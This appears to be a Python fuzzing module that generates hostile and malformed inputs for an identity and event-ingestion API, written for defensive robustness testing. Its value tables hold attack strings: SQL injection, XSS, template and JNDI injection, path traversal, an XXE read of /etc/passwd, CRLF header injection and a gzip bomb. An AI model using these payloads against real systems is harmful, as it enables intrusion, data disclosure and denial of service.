"""What browsers, scanners and malice send, as raw bytes: values, bodies, ids, headers, paths; mutations of them."""

import gzip
import itertools
import json
import random
import zlib
from collections.abc import Iterator, Sequence

from identity.parse import AUTHENTICATE_BYTES_MAX, EVENTS_BYTES_MAX, EVENTS_MAX
from identity.protocols.segment import MESSAGE_TYPES

TEXTS: dict[str, str] = {
    "quote": 'O\'Neil "Ana" `x`',
    "sql": "'; DROP TABLE customer; --",
    "sql placeholder": "%s %(rows)s $1 :name ? {0} {{x}}",
    "copy": "\\N\\.\\x00\\u0000",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "template": "{{7*7}}${7*7}<%= 7 %>#{7}",
    "right to left": "\u202eanA\u202c שלום مرحبا",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈😀",
    "zero width": "A\u200bn\u200ca\u200d\ufeff\u2060",
    "combining": "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
    "full width": "Ａｎａ＠ｓｈｏｐ．ｅｘａｍｐｌｅ",
    "spaces": "\u00a0\u2003\u3000",
    "line ends": "a\r\nX-Injected: 1\r\n\r\nb\u2028c\u2029d\u0085e",
    "tab": "a\tb",
    "nul": "a\x00b",
    "percent nul": "a%00b%ff%2F..%2f",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "replacement": "a\ufffdb",
    "not a character": "a\ufffe\uffff\U0010ffffb",
    "private use": "\ue000\U000f0000",
    "long": "x" * 5_000,
    "long emoji": "😀" * 1_000,
    "254 wide": "𝔞" * 254,
    "255": "a" * 255,
    "path": "../../etc/passwd",
    "slashes": "a/b//c\\d",
    "dots": "..",
    "url": "javascript:alert(1)//http://a.example",
    "formula": '=HYPERLINK("http://a.example")',
    "jndi": "${jndi:ldap://a.example/x}",
    "email": "ana@shop.example",
    "email folding": "ΐ" * 60 + "@shop.example",
    "email quoted": '"a b"@[127.0.0.1]',
    "email of hyphens": "a@" + "-" * 200 + ".example",
    "email without at": "a" * 20_000,
    "phone": "+886 912-345-678",
    "phone full width": "＋８８６９１２３４５６７８",
    "phone extension": "+886912345678;ext=5",
    "phone context": "tel:0912345678;phone-context=+886",
    "phone vanity": "+1 800 FLOWERS",
    "phone of plus": "+" * 30,
    "phone of brackets": "+(((((((((((((((((((1",
    "week date": "1995-W01-1",
    "short date": "19950101",
    "no such date": "1995-02-30",
    "year 0": "0000-01-01",
    "time": "2026-06-01T08:30:00.123456789+14:00",
    "time out of range": "9999-12-31T23:59:59.999-23:59",
    "leap second": "2016-12-31T23:59:60Z",
    "url of credentials": "http://a:b@[::1]:99999/?q=<>",
    "url of many dots": "http://" + "a." * 200 + "example",
    "null": "null",
    "placeholder": '"[object Object]"',
    "constructor": "__proto__",
    "key of redis": "{a}:b|c!d*",
    "json": '{"a":[1]}',
    "turkish": "İıŞş",
    "sharp s": "ẞß" * 20,
}

_DEEP = 10 * 1024 // 2

VALUES: dict[str, bytes] = {
    **{name: json.dumps(text).encode() for name, text in TEXTS.items()},
    **{f"raw {name}": json.dumps(text, ensure_ascii=False).encode() for name, text in TEXTS.items()},
    "bad utf-8": b'"a\xffb"',
    "cut utf-8": b'"\xf0\x9f\x98"',
    "overlong utf-8": b'"\xc0\x80"',
    "raw surrogate": b'"\xed\xa0\xbd"',
    "raw pair": b'"\xed\xa0\xbd\xed\xb8\x80"',
    "beyond unicode": b'"\xf4\x90\x80\x80"',
    "lone high": b'"\\ud83d"',
    "lone low": b'"x\\ude00y"',
    "swapped pair": b'"\\ude00\\ud83d"',
    "escaped pair": b'"\\ud83d\\ude00"',
    "escaped nul": b'"\\u0000"',
    "raw nul": b'"a\x00b"',
    "raw control": b'"a\x01\nb"',
    "null": b"null",
    "true": b"true",
    "false": b"false",
    "zero": b"0",
    "minus zero": b"-0",
    "minus zero float": b"-0.0",
    "minus one": b"-1",
    "float": b"1.5",
    "tiny float": b"5e-324",
    "large float": b"1.7976931348623157e308",
    "infinite float": b"1e400",
    "minus infinite float": b"-1e400",
    "huge exponent": b"1e" + b"9" * 4_000,
    "long fraction": b"0." + b"1" * 5_000,
    "nan": b"NaN",
    "infinity": b"Infinity",
    "minus infinity": b"-Infinity",
    "beyond 53 bits": b"9007199254740993",
    "beyond 64 bits": b"18446744073709551616",
    "254 digits": b"9" * 254,
    "255 digits": b"9" * 255,
    "4300 digits": b"9" * 4_300,
    "5000 digits": b"9" * 5_000,
    "minus 5000 digits": b"-" + b"9" * 5_000,
    "milliseconds": b"1780300000000",
    "empty text": b'""',
    "empty list": b"[]",
    "empty object": b"{}",
    "list": b'["Ana", 1, null, true, {"a": []}]',
    "object": b'{"name": "Ana", "a.b": {"c": [1]}}',
    "list of surrogates": b'["\\ud800", {"\\udfff": "\\ud800"}]',
    "object of nul": b'{"\\u0000": "\\u0000"}',
    "list of nan": b"[NaN, [Infinity], 1e400]",
    "list of 5000 digits": b"[" + b"9" * 5_000 + b"]",
    "63 levels": b"[" * 63 + b"]" * 63,
    "65 levels": b"[" * 65 + b"1" + b"]" * 65,
    "950 levels": b"[" * 950 + b"]" * 950,
    "1000 levels": b"[" * 1_000 + b"]" * 1_000,
    "10 KB of brackets": b"[" * _DEEP + b"]" * _DEEP,
    "deep objects": b'{"a":' * 2_000 + b"1" + b"}" * 2_000,
    "deep texts": b"[" * 2_000 + b'"]\\"}"' + b"]" * 2_000,
    "many items": b"[" + b",".join([b"1"] * 5_000) + b"]",
    "many names": json.dumps({f"n{i}": i for i in range(1_500)}).encode(),
    "duplicate names": b'{"a": 1, "a": 2, "\\u0061": 3}',
}
"""One JSON value each, or what passes for one. None is cut off: the members beside it can be told apart."""

PROFILE = (
    b'{"email":"ana@shop.example","firstName":"Ana","phone":"+886912345678","custom":{"points":1},'
    b'"address":{"city":"X"}}'
)
IDENTIFY_FIELDS = (
    "customer_id", "visitor_id", "display_name", "display_email", "address", "customerId", "email", "name",
    "display_mobile", "phone", "gender", "birth", "birthday", "occurred_at", "sent_at", "event", "event_id", "params",
    "identity_token", "extra",
)  # fmt: skip
EVENT_FIELDS = (
    "type", "event", "event_id", "visitor_id", "customer_id", "userId", "externalUserId", "occurred_at", "sent_at",
    "params", "profile", "patch", "display_name", "extra",
)  # fmt: skip
PROFILE_FIELDS = (
    "email", "firstName", "lastName", "phone", "gender", "birthDate", "avatar", "company", "companyUrl", "jobTitle",
    "alternateEmail", "alternatePhone", "interests", "activities", "address", "custom", "unknown", "__proto__",
)  # fmt: skip
PATCH_PATHS = (
    "email",
    "firstName",
    "address",
    "address.city",
    "custom",
    "custom.points",
    ".",
    "unknown.path",
    "interests",
)
MESSAGE_FIELDS = (
    "type", "messageId", "anonymousId", "userId", "previousId", "groupId", "event", "name", "category", "properties",
    "traits", "context", "timestamp", "originalTimestamp", "sentAt", "integrations", "extra",
)  # fmt: skip
TRAITS = (
    "email", "name", "phone", "gender", "birthday", "firstName", "title", "avatar", "company", "address", "createdAt",
    "id", "plan", "__proto__",
)  # fmt: skip
EVENT_NAMES = ("clIdentity", "userSignedUp", "userSignedIn", "userSignedOut", "userProfileChanged", "pageOpened", "")


def member(name: str, value: bytes) -> bytes:
    """Return ``"name":value``."""
    return json.dumps(name).encode() + b":" + value


def document(*members: bytes) -> bytes:
    """Return a JSON object of these members."""
    return b"{" + b",".join(members) + b"}"


def identify_bodies(fields: Sequence[str] = IDENTIFY_FIELDS) -> Iterator[tuple[str, bytes]]:
    """Give an authenticate body for each value in each field, and in the names of fields."""
    number = 0
    for label, value in VALUES.items():
        for field in fields[:5] if label.startswith("raw ") else fields:
            number += 1
            members = {
                "visitor_id": b'"visitor-%d"' % number,
                "customer_id": b'"identify-%d"' % number,
                "display_name": b'"Ana"',
                field: value,
            }
            yield f"{label} as {field}", document(*(member(name, held) for name, held in members.items()))
        number += 1
        entry = document(member("customerId", b'"entry-%d"' % number), member("name", value))
        yield f"{label} in params", document(b'"event":"clIdentity"', member("params", entry), b'"visitor_id":"v"')
        if value.startswith(b'"'):
            yield f"{label} as a name", document(b'"customer_id":"name-%d"' % number, value + b":1", b'"name":"Ana"')


def hostile_events() -> Iterator[tuple[str, bytes]]:
    """Give an event for each value in each place of each kind of event."""
    number = 0
    for label, value in VALUES.items():
        for field in EVENT_FIELDS:
            number += 1
            members = {
                "type": json.dumps(EVENT_NAMES[number % len(EVENT_NAMES)]).encode(),
                "event_id": b'"event-%d"' % number,
                "visitor_id": b'"event-visitor-%d"' % (number % 50),
                "customer_id": b'"event-customer-%d"' % (number % 50),
                "profile": PROFILE,
                "patch": b'[{"type":"set","path":"firstName","value":"Bo"}]',
                field: value,
            }
            yield f"{label} as {field}", document(*(member(name, held) for name, held in members.items()))
        for field in PROFILE_FIELDS:
            number += 1
            profile = document(member(field, value), b'"lastName":"Lin"')
            common = b'"userId":"sign-up-%d"' % number
            yield f"{label} in profile.{field}", document(b'"type":"userSignedUp"', common, member("profile", profile))
        for path in PATCH_PATHS:
            number += 1
            operation = document(b'"type":"set"', member("path", json.dumps(path).encode()), member("value", value))
            patch = b'"visitor_id":"patched-%d","patch":{"operations":[%b]}' % (number % 20, operation)
            yield f"{label} set on {path}", document(b'"type":"userProfileChanged"', patch)
        for place in ("type", "path"):
            operation = document(b'"type":"unset"', b'"path":"email"', member(place, value))
            patch = b'"visitor_id":"patched","patch":[%b]' % operation
            yield f"{label} as {place} of a patch", document(b'"type":"userProfileChanged"', patch)
        yield f"{label} as the event", value


def croct_beacons() -> Iterator[tuple[str, bytes]]:
    """Give a beacon for each value in each place of it, and those that were captured."""
    context = {"tabId": b'"01a1fefd-85e7-44f3-9014-6f98ad16a787"', "url": b'"https://shop.example/"'}
    number = 0

    def beacon(inner: bytes, **changes: bytes) -> bytes:
        moment = 1_780_000_000_000 + number
        whole = {
            "context": document(*(member(name, value) for name, value in context.items())),
            "payload": inner,
            "originalTime": b"%d" % moment,
            "departureTime": b"%d" % (moment + 200),
            **changes,
        }
        return document(*(member(name, value) for name, value in whole.items()))

    for label, payload in CROCT_PAYLOADS.items():
        number += 1
        yield label, beacon(json.dumps(payload).encode())
    for label, value in VALUES.items():
        for place in ("context", "payload", "originalTime", "departureTime", "extra"):
            number += 1
            yield f"{label} as {place}", beacon(b'{"type":"pageOpened","url":"https://x/"}', **{place: value})
        yield f"{label} as tabId", beacon(b'{"type":"nothingChanged","sinceTime":1}', context=b'{"tabId":%b}' % value)
        for kind, place in itertools.product(CROCT_IDENTITY, ("type", "externalUserId", "userId", "profile", "patch")):
            number += 1
            members = {"type": json.dumps(kind).encode(), "externalUserId": b'"croct-%d"' % number, place: value}
            yield f"{label} as {place} of {kind}", beacon(document(*(member(n, held) for n, held in members.items())))
        for kind, operation in itertools.product(("userProfileChanged", "leadGenerated"), CROCT_OPERATIONS):
            number += 1
            step = document(
                member("type", json.dumps(operation).encode()), b'"path":"custom.n"', member("value", value)
            )
            patch = b'"patch":{"operations":[%b]}' % step
            yield (
                f"{label} to {operation} by {kind}",
                beacon(document(member("type", json.dumps(kind).encode()), patch)),
            )
        for payload in CROCT_PAYLOADS.values():
            places = [name for name in payload if name != "type"]
            number += 1
            at = places[number % len(places)] if places else "extra"
            sent = {name: json.dumps(held).encode() for name, held in payload.items()} | {at: value}
            yield f"{label} as {at}", beacon(document(*(member(name, held) for name, held in sent.items())))


CROCT_IDENTITY = ("userSignedUp", "userSignedIn", "userSignedOut", "userProfileChanged")
CROCT_OPERATIONS = ("set", "add", "combine", "merge", "increment", "decrement", "remove", "clear", "unset", "collect")
_CART: dict[str, object] = {
    "currency": "TWD",
    "total": 490,
    "items": [
        {"index": 0, "quantity": 1.5, "total": 490, "product": {"productId": "p", "name": "P", "displayPrice": 490}}
    ],
    "taxes": {"": -1},
    "lastUpdateTime": None,
}
CROCT_PAYLOADS: dict[str, dict[str, object]] = {
    "tab": {"type": "tabOpened", "tabId": "01a1fefd-85e7-44f3-9014-6f98ad16a787"},
    "page": {"type": "pageOpened", "url": "https://shop.example/landing", "referrer": "https://r.example/"},
    "load": {"type": "pageLoaded", "url": "https://shop.example/", "title": "Shop", "lastModifiedTime": 1795279390233},
    "visibility": {"type": "tabVisibilityChanged", "tabId": "t", "visibility": "hidden"},
    "click": {"type": "userClicked", "point": {"x": 1, "y": 2}, "surfaceSize": {"width": 3, "height": 4}},
    "link": {"type": "linkOpened", "link": "javascript:void(0)"},
    "cart": {"type": "cartViewed", "cart": _CART},
    "order": {"type": "orderPlaced", "order": {**_CART, "orderId": "o-1", "status": "complete"}},
    "goal": {"type": "goalCompleted", "goalId": "a:b-c_d", "value": None},
    "event": {"type": "eventOccurred", "name": "x", "details": {"a": None, "b": "y" * 300}},
    "lead": {
        "type": "leadGenerated",
        "patch": {"operations": [{"type": "merge", "path": ".", "value": {"email": "x"}}]},
    },
    "session": {"type": "sessionAttributesChanged", "patch": {"operations": [{"type": "clear", "path": "a"}]}},
    "idle": {"type": "nothingChanged", "sinceTime": 1795279390233},
    "sign-up": {
        "type": "userSignedUp",
        "externalUserId": "croct",
        "patch": {"operations": [{"type": "merge", "path": ".", "value": {"birthDate": "2000-99-99", "email": "x"}}]},
    },
    "sign-in": {"type": "userSignedIn", "externalUserId": "croct"},
    "sign-out": {"type": "userSignedOut", "externalUserId": "croct"},
    "edit": {
        "type": "userProfileChanged",
        "patch": {
            "operations": [{"type": "set", "path": "__proto__.x", "value": 1}, {"type": "unset", "path": "[0].a"}]
        },
    },
}
"""Payloads as Croct's SDK sends them, also those that it should not let through."""


def hostile_messages() -> Iterator[tuple[str, bytes]]:
    """Give a message of the Segment specification for each value in each place of each type."""
    number = 0
    for label, value in VALUES.items():
        for field in MESSAGE_FIELDS:
            number += 1
            members = {
                "type": json.dumps(MESSAGE_TYPES[number % len(MESSAGE_TYPES)]).encode(),
                "messageId": b'"message-%d"' % number,
                "anonymousId": b'"message-visitor-%d"' % (number % 50),
                "userId": b'"message-customer-%d"' % (number % 50),
                "event": b'"Order Completed"',
                "groupId": b'"group"',
                "properties": b'{"order_id":"o-1","revenue":25,"currency":"EUR"}',
                "traits": b'{"name":"Ana","plan":"pro"}',
                field: value,
            }
            yield f"{label} as {field}", document(*(member(name, held) for name, held in members.items()))
        for trait in TRAITS:
            number += 1
            traits = document(member(trait, value), b'"lastName":"Lin"')
            yield (
                f"{label} as trait {trait}",
                document(b'"type":"identify","userId":"traits-%d"' % number, member("traits", traits)),
            )
        for place in ("order_id", "revenue", "currency", "x"):
            properties = member("properties", document(member(place, value), b'"list":[%b,{"a":%b}]' % (value, value)))
            order = b'"type":"track","event":"Order Completed","anonymousId":"orders"'
            yield f"{label} as property {place}", document(order, properties)
        context = document(member("page", document(member("url", value))), member("traits", value))
        yield f"{label} in context", document(b'"type":"identify","anonymousId":"context"', member("context", context))
        if value.startswith(b'"'):
            names = b'"type":"track","event":"E","anonymousId":"names","properties":{%b:1,"a":{%b:1}}' % (value, value)
            yield f"{label} as a name", document(names)
        yield f"{label} as the message", value


_CAPTURED: tuple[dict[str, object], ...] = (
    {
        "type": "track", "event": "Order Completed", "userId": "u-1", "timestamp": "2026-06-01T08:29:00.123Z",
        "properties": {"order_id": "o-1", "revenue": 25}, "messageId": "node-next-1780302600123-5a4f8b1e",
        "context": {"library": {"name": "@segment/analytics-node", "version": "3.1.0"}}, "integrations": {},
        "_metadata": {"nodeVersion": "20.20.0"},
    },
    {
        "integrations": {}, "anonymousId": None, "timestamp": "2026-06-01T08:29:00.123456+00:00", "type": "track",
        "context": {"library": {"name": "analytics-python", "version": "2.4.0"}}, "userId": "u-1", "event": "E",
        "properties": {"score": float("nan")}, "messageId": "5a4f8b1e-0d1c-4d0c-8f3a-1b2c3d4e5f60",
    },
    {
        "timestamp": "2026-06-01T08:29:58.000Z", "integrations": {"Segment.io": True}, "userId": "u-1",
        "anonymousId": "a-1", "type": "identify", "traits": {"email": "ana@shop.example"},
        "context": {
            "page": {"path": "/", "referrer": "", "search": "", "title": "Shop", "url": "https://shop.example/"},
            "library": {"name": "analytics.js", "version": "npm:next-1.84.3"},
        },
        "messageId": "ajs-next-1780302598000-5a4f8b1e", "writeKey": "wk_1", "sentAt": "2026-06-01T08:29:59.000Z",
        "_metadata": {"bundled": []},
    },
    {
        "channel": "web", "originalTimestamp": "2026-06-01T08:20:00.000Z", "integrations": {"All": True},
        "context": {
            "traits": {"email": "ana@shop.example"}, "sessionId": 1780302598,
            "library": {"name": "RudderLabs JavaScript SDK"},
        },
        "messageId": "8a2f6f3c", "userId": "", "anonymousId": "a-1", "event": None, "properties": None,
        "type": "identify", "sentAt": "2026-06-01T08:20:01.000Z",
    },
    {"type": "alias", "userId": "u-1", "previousId": "u-1", "anonymousId": "a-1"},
    {"type": "group", "groupId": "g-1", "traits": {"name": "Tea", "plan": None}, "anonymousId": "a-1", "userId": None},
    {
        "type": "page", "category": "Shop", "name": "Landing", "anonymousId": "a-1",
        "properties": {"path": "/", "url": "https://shop.example/"},
    },
)  # fmt: skip
CAPTURED_MESSAGES = tuple(json.dumps(message).encode() for message in _CAPTURED)
"""As the SDKs sent them to a recorder, shortened."""


def _padded(size: int) -> bytes:
    head, tail = b'{"visitor_id":"padded","customer_id":"padded","padding":"', b'"}'
    return head + b"x" * (size - len(head) - len(tail)) + tail


BODIES: dict[str, bytes] = {
    "empty": b"",
    "blank": b" \r\n\t",
    "nul": b"\x00",
    "null": b"null",
    "number": b"1",
    "text": b'"customer_id"',
    "list": b'[{"customer_id":"1"}]',
    "empty object": b"{}",
    "word": b"customer_id",
    "truncated": b'{"customer_id":"trunc","display_name":"An',
    "truncated escape": b'{"customer_id":"trunc\\u00',
    "trailing": b'{"customer_id":"trail"} x',
    "two objects": b'{"customer_id":"1"}{"customer_id":"2"}',
    "trailing comma": b'{"customer_id":"comma",}',
    "single quotes": b"{'customer_id':'1'}",
    "comment": b'{"customer_id":"1" /* x */}',
    "duplicate names": b'{"customer_id":"first","customer_id":"second","events":[],"events":1}',
    "bom": b'\xef\xbb\xbf{"customer_id":"bom","display_name":"Ana"}',
    "bom twice": b'\xef\xbb\xbf\xef\xbb\xbf{"customer_id":"bom"}',
    "utf-16": '{"customer_id":"utf16"}'.encode("utf-16"),
    "utf-32": '{"customer_id":"utf32"}'.encode("utf-32"),
    "gzip": gzip.compress(b'{"customer_id":"gzip"}'),
    "form": b"customer_id=1&visitor_id=2&display_name=Ana+Lin",
    "multipart": b'--x\r\nContent-Disposition: form-data; name="customer_id"\r\n\r\n1\r\n--x--\r\n',
    "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "noise": bytes(range(256)),
    "surrogate name": b'{"\\ud800":1,"customer_id":"surrogate-name","type":"userSignedIn","visitor_id":"sn"}',
    "damaged and deep": b'{"customer_id":"dd","n":NaN,"a":' + b"[" * 990 + b"]" * 990 + b"}",
    "deep, then an open text": b'{"a":' + b"[" * 2_000 + b'"' + b"a" * 20_000,
    "deep, then open escapes": b'{"a":' + b"[" * 2_000 + b'"' + b'\\"' * 10_000,
    "deep, then open quotes": b'{"a":' + b"[" * 2_000 + b'""' * 10_000 + b'"',
    "10 KB of open brackets": b"[" * 10_240,
    "10 KB of open objects": b'{"a":' * 2_048,
    "10 KB of closing brackets": b"]" * 10_240,
    "events is an object": b'{"events":{"type":"userSignedIn"}}',
    "events is a text": b'{"events":"x"}',
    "events is null": b'{"events":null}',
    "events is empty": b'{"events":[]}',
    "events of junk": b'{"events":[null,1,"x",[],{},NaN,"\\ud800"]}',
    "batch is an object": b'{"batch":{"type":"track"}}',
    "batch of junk": b'{"batch":[null,1,"x",[],{},NaN,"\\ud800"],"sentAt":NaN,"writeKey":[]}',
    "batch of batches": b'{"batch":[{"batch":[{"type":"track","event":"x","anonymousId":"v"}]}]}',
    "2501 messages": b'{"batch":[' + b",".join([b"{}"] * 2501) + b"]}",
    "gzip of a batch": gzip.compress(b'{"batch":[{"type":"track","event":"x","anonymousId":"v"}]}'),
    "gzip cut off": gzip.compress(b'{"batch":[]}' * 50)[:-9],
    "gzip twice": gzip.compress(b'{"batch":[]}') * 2,
    "gzip of gzip": gzip.compress(gzip.compress(b'{"batch":[]}')),
    "gzip bomb": gzip.compress(b" " * 20_000_000),
    "gzip header alone": b"\x1f\x8b",
    "gzip of noise": gzip.compress(bytes(range(256)) * 10),
    "zlib": zlib.compress(b'{"batch":[]}'),
    "events of events": b'{"events":[{"events":[{"type":"userSignedIn"}]}]}',
    "501 events": b'{"events":[' + b",".join([b"{}"] * (EVENTS_MAX + 1)) + b"]}",
    "at the limit of authenticate": _padded(AUTHENTICATE_BYTES_MAX),
    "over the limit of authenticate": _padded(AUTHENTICATE_BYTES_MAX + 1),
    "at the limit of events": _padded(EVENTS_BYTES_MAX),
    "over the limit of events": _padded(EVENTS_BYTES_MAX + 1),
    "500 KB of brackets": b'{"a":' + b"[" * 250_000 + b"]" * 250_000 + b"}",
    "500 KB of open brackets": b"[" * 500_000,
    "500 KB of open quotes": b'{"a":' + b"[" * 2_000 + b'\\"' * 250_000,
    "500 KB of digits": b'{"customer_id":' + b"9" * 500_000 + b"}",
    "500 KB of names": b"{" + b",".join(b'"%d":0' % n for n in range(50_000))[:500_000].rpartition(b",")[0] + b"}",
    "2 MB": _padded(2 * 1024 * 1024),
}
"""Whole bodies, for every endpoint that takes one."""

LOOKUPS: dict[str, bytes] = {
    **{
        f"{label} in {kind}": document(member(kind, b"[" + value + b"]"))
        for label, value in VALUES.items()
        for kind in ("customer_ids", "emails", "phones", "visitor_ids")
    },
    **{f"{label} as customer_ids": document(member("customer_ids", value)) for label, value in VALUES.items()},
    "two lists": b'{"emails":[],"phones":[]}',
    "1001 inputs": b'{"customer_ids":[' + b",".join([b'"1"'] * 1_001) + b"]}",
    "1000 inputs": b'{"emails":[' + b",".join([b'"ana@shop.example"'] * 1_000) + b"]}",
}

SEGMENTS: tuple[bytes, ...] = (
    b"", b"/", b"//", b".", b"..", b"/../", b"%2e%2e", b"%2F", b"a%2Fb", b"%5c", b"%00", b"a%00b", b"%ff", b"%c0%80",
    b"%ed%a0%80", b"%f0%9f%98", b"%F0%9F%98%80", b"%", b"%2", b"%zz", b"%25", b"%2500", b"a;b=c", b"a,b", b"'", b"%22",
    b"%27%3B--", b"%3Cscript%3E", b"*", b"{x}", b"{", b"a:b", b"+", b"%20", b"%0d%0aX-Injected:%201", b"%E2%80%AE",
    b"%EF%BB%BF", b"x" * 254, b"x" * 255, b"x" * 5_000, b"%E9%99%88" * 300, b"null", b"undefined", b"0", b"-1",
    b"00000000-0000-0000-0000-000000000000", b"019f0000-0000-7000-8000-000000000000", b"lookup", b"lookup/",
    b"lookup/x", b"a/b", b"a/footprint", b"a/explain", b"\xff", b"\xf0\x9f\x98\x80", b"a\tb",
)  # fmt: skip

PARAMETERS = (
    "customer_id", "include", "as_of", "limit", "cursor", "visitor_id", "channel_id", "event", "field", "verdict",
    "reason", "from", "to", "dry_run", "x",
)  # fmt: skip
QUERY_VALUES: tuple[bytes, ...] = (
    b"", b"%00", b"a%00b", b"%ff", b"%ed%a0%80", b"%", b"%zz", b"provenance", b"0", b"-1", b"1", b"200", b"201",
    b"9" * 5_000, b"1e400", b"NaN", b"null", b"true", b"%27%3B--", b"%F0%9F%98%80", b"\xff", b"a&a=b", b"a;b", b"+",
    b"2026-06-01T00:00:00Z", b"9999-12-31T23:59:59.999-23:59", b"0001-01-01T00:00:00%2B14:00", b"-9223372036854775809",
    b"253402300800000", b"eyJhIjoxfQ", b"eyJhIjoxfQ==", b"%2B%2F%3D", b"00000000-0000-0000-0000-000000000000",
    b"ffffffff-ffff-ffff-ffff-ffffffffffff", b"clIdentity", b"display_name", b"overwrote", b"no_country_code",
    b"%D9%A1%D9%A2", b"x" * 9_000,
)  # fmt: skip

HEADERS: tuple[bytes, ...] = (
    b"", b" ", b"x", b"\xff\xfe", b"\xc3\xa9", b"'; --", b"a\tb", b"Bearer", b"Bearer ", b"Bearer  x", b"bearer sk_",
    b"Basic YTpi", b"Bearer \xff", b"Bearer " + b"x" * 8_000, b"null", b"http://", b"http://[", b"http://[::1",
    b"http://[::1]:x", b"http://localhost:99999", b"http://localhost\t.evil.example", b"http://evil.example",
    b"http://\xe2\x84\x80.example", b"HTTP://LOCALHOST", b"file://", b"*", b'"1"', b'W/"1"', b'"1', b'"1", "2",, W/"3"',
    b"%00", b"9" * 5_000, b"," * 5_000,
)  # fmt: skip

_TOKENS: tuple[bytes, ...] = (
    *(value for value in VALUES.values() if len(value) < 40),
    b"{", b"}", b"[", b"]", b",", b":", b'"', b"\\", b"\\u", b"\\ud800", b"\\u0000", b"\x00", b"\xff", b"\xef\xbb\xbf",
    b"[" * 100, b'{"a":' * 100, b'"events":[', b'"params":{', b'"customer_id":', b'"visitor_id":', b'"profile":{',
    b'"patch":[', b'"type":"userSignedUp",', b'"type":"userProfileChanged",', b'"type":"userSignedOut",', b"1e400",
)  # fmt: skip


def mutated(chance: random.Random, body: bytes, others: list[bytes]) -> bytes:
    """Return the body after one to six small accidents."""
    for _ in range(chance.randint(1, 6)):
        at = chance.randint(0, len(body))
        end = min(len(body), at + chance.choice((1, 1, 2, 4, 16, 64)))
        match chance.randrange(8):
            case 0:
                body = body[:at] + bytes([chance.randrange(256)]) + body[at + 1 :]
            case 1:
                body = body[:at] + body[end:]
            case 2:
                body = body[:at] + chance.choice(_TOKENS) + body[at:]
            case 3:
                body = body[:at] + chance.choice(_TOKENS) + body[end:]
            case 4:
                body = body[:at] + body[at:end] * chance.randint(2, 20) + body[end:]
            case 5:
                body = body[:at] if chance.random() < 0.2 else body
            case 6:
                other = chance.choice(others)
                start = chance.randint(0, len(other))
                body = body[:at] + other[start : start + chance.choice((8, 32, 128))] + body[end:]
            case _:
                # A whole value, found by its quotes, becomes another one: the body stays JSON.
                first = body.find(b":", at)
                last = min((found for mark in (b",", b"}") if (found := body.find(mark, first)) > 0), default=-1)
                if 0 < first < last:
                    body = body[: first + 1] + chance.choice(list(VALUES.values())) + body[last:]
    return body[:EVENTS_BYTES_MAX]
